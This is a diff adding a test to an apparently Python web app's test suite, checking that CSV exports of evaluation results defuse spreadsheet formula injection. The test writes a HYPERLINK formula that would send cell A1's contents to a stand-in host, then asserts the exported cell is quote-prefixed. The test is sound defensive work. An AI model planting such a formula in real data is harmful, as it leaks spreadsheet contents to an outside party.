@@ -476,3 +476,21 @@ async def test_a_searchs_count_follows_an_override_of_a_finished_run(client, app
     after = count.search((await client.get(f"/runs/{run.run_id}?q=not+fine")).text)
     assert after is not None and int(after.group(1)) == len(failed) - 1
     assert "1 result" in (await client.get(f"/runs/{run.run_id}?q=ALL+GOOD")).text
+
+
+async def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(client, app, env_a: Env) -> None:  # noqa: ANN001
+    run = await seeded(app, env_a, 4)
+    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
+    first = (await api_results(client, env_a, run))[0]
+    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+    patched = await client.patch(
+        f"/v1/evaluations/{run.suite_id}/results/{first['id']}",
+        json={"score": 50, "score_reason": formula},
+        headers=env_a.headers,
+    )
+    assert patched.status_code == 200, patched.text
+    rows = list(csv.DictReader(io.StringIO((await client.get(f"/runs/{run.run_id}/export.csv")).text)))
+    assert next(r for r in rows if r["id"] == first["id"])["score_reason"] == "'" + formula
+    assert all(not r["score_reason"].startswith(("=", "+", "-", "@")) for r in rows)
+    records = [json.loads(line) for line in (await client.get(f"/runs/{run.run_id}/export.jsonl")).text.splitlines()]
+    assert next(r for r in records if r["id"] == first["id"])["score_reason"] == formula
